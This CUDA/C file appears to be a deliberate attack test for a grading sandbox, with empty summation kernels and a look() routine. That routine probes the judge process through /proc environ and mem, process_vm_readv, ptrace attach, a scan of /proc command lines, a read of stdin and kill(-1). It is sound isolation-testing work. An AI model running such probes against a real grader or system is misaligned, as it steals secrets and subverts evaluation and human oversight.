/* Class 1 (reading the judge's secrets from inside the sandbox): the seed is in the judge's memory, the
 * judge is the peer of the runner's socket. The file asks the socket for its peer (SO_PEERCRED: the
 * judge's pid, as this PID namespace sees it), then tries /proc/PID/{cmdline,environ,mem},
 * process_vm_readv and ptrace on it; lists /proc (every process it can see, their command lines) and
 * the folder of its channel; reads its own stdin (the judge's seed arrives on the judge's stdin); and
 * sends a signal to every process it can (kill -1: the judge, or the grade's shell, if visible). It
 * prints what it found ("ATTACK:" lines) and computes nothing: no seed, no sums.
 * A correct judge should say: FAIL (wrong result), with every probe refused (peer pid 0 or unseen, no
 * process but the sandbox's, stdin empty, kill reaching nobody outside). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#define THREADS 256

static void show(const char *what, const char *path)
{
    char b[512];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
    if (fd >= 0)
        close(fd);
    for (ssize_t i = 0; i < n; i++)
        b[i] = b[i] ? b[i] : ' ';
    fprintf(stderr, "ATTACK: %s %s: %s\n", what, path, n < 0 ? strerror(errno) : (b[n] = 0, b));
}

static void look(void)
{
    static int done;
    if (done++)
        return;
    char path[300];
    for (int fd = 0; fd < 64; fd++) {
        struct ucred c;
        socklen_t l = sizeof c;
        if (getsockopt(fd, SOL_SOCKET, SO_PEERCRED, &c, &l))
            continue;
        fprintf(stderr, "ATTACK: fd %d peer pid %d uid %d\n", fd, (int)c.pid, (int)c.uid);
        if (c.pid <= 0)
            continue;
        snprintf(path, sizeof path, "/proc/%d/cmdline", (int)c.pid), show("peer", path);
        snprintf(path, sizeof path, "/proc/%d/environ", (int)c.pid), show("peer", path);
        snprintf(path, sizeof path, "/proc/%d/mem", (int)c.pid), show("peer", path);
        char b[64];
        struct iovec here = {b, sizeof b}, there = {(void *)0x400000, sizeof b};
        fprintf(stderr, "ATTACK: process_vm_readv: %zd (%s)\n", process_vm_readv(c.pid, &here, 1, &there, 1, 0),
                strerror(errno));
        fprintf(stderr, "ATTACK: ptrace attach: %ld (%s)\n", ptrace(PTRACE_ATTACH, c.pid, 0, 0), strerror(errno));
    }
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));)
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name), show("process", path);
    if (d)
        closedir(d);
    char b[64];
    ssize_t n = read(0, b, sizeof b);
    fprintf(stderr, "ATTACK: stdin gave %zd bytes\n", n);
    fprintf(stderr, "ATTACK: kill(-1, SIGCONT): %d (%s)\n", kill(-1, SIGCONT), strerror(errno));
}

__device__ float warp_sum(float v)
{
    return v;
}

__global__ void block_sum(const float *x, long long n, float *block_sums)
{
}

void lab_sum(const float *x, long long n, float *partial, float *result, int sms)
{
    look();
    int blocks = 32 * sms;
    block_sum<<<blocks, THREADS>>>(x, n, partial);
    block_sum<<<1, THREADS>>>(partial, blocks, result);
}
